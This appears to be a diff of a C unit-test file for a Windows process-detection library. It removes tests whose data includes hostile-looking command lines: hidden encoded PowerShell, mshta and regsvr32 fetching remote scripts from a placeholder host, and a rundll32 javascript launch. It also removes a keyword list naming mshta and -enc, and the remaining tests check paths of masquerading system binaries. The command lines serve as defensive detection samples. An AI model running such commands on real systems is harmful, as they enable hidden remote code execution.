@@ -72,34 +72,8 @@ static void times(void **state) {
     assert_true(host_apart(INT64_MAX, 1) < UINT64_MAX);
 }
 
-static void words(void **state) {
+static void masks(void **state) {
     (void)state;
-    static const char *const list[] = {"mshta", "-enc", NULL}, *const none[] = {NULL};
-    assert_true(host_has_word("C:\\Windows\\MSHTA.exe x", list));
-    assert_false(host_has_word("notepad", list));
-    assert_false(host_has_word("", list));
-    assert_false(host_has_word("mshta", none));
-}
-
-static void commands(void **state) {
-    (void)state;
-    static const char *const hidden[] = {"%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc AAAA",
-                                         "C:\\Windows\\system32\\cmd.exe /c echo abc > \\\\.\\pipe\\abc",
-                                         "mshta http://x/y.hta",
-                                         "regsvr32 /s /n /u /i:http://x/y.sct scrobj.dll",
-                                         "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \""};
-    static const char *const shells[] = {
-        "cmd.exe /c copy a b", "PowerShell.exe -File C:\\a.ps1", "wscript C:\\a.vbs",
-        "powershell -WindowStyle Hidden -ExecutionPolicy Bypass -File a.ps1"};
-    static const char *const plain[] = {"", "C:\\Windows\\System32\\svchost.exe -k netsvcs",
-                                        "C:\\Program Files\\x-encoder\\x.exe -encode", "certutil -store",
-                                        "rundll32.exe a.dll,b"};
-    for (size_t i = 0; i < sizeof hidden / sizeof hidden[0]; i++)
-        assert_int_equal(host_command_of(hidden[i]), HOST_COMMAND_HIDDEN);
-    for (size_t i = 0; i < sizeof shells / sizeof shells[0]; i++)
-        assert_int_equal(host_command_of(shells[i]), HOST_COMMAND_SHELL);
-    for (size_t i = 0; i < sizeof plain / sizeof plain[0]; i++)
-        assert_int_equal(host_command_of(plain[i]), HOST_COMMAND_PLAIN);
     assert_true(host_is_masked("/Windows/SVCHOST.EXE"));
     assert_true(host_is_masked("/ProgramData/Windows/System32/lsass.exe"));
     assert_true(host_is_masked("/Windows/System32/drivers/csrss.exe"));
@@ -112,8 +86,10 @@ static void commands(void **state) {
 
 int main(void) {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(places), cmocka_unit_test(trust),    cmocka_unit_test(times),
-        cmocka_unit_test(words),  cmocka_unit_test(commands),
+        cmocka_unit_test(places),
+        cmocka_unit_test(trust),
+        cmocka_unit_test(times),
+        cmocka_unit_test(masks),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
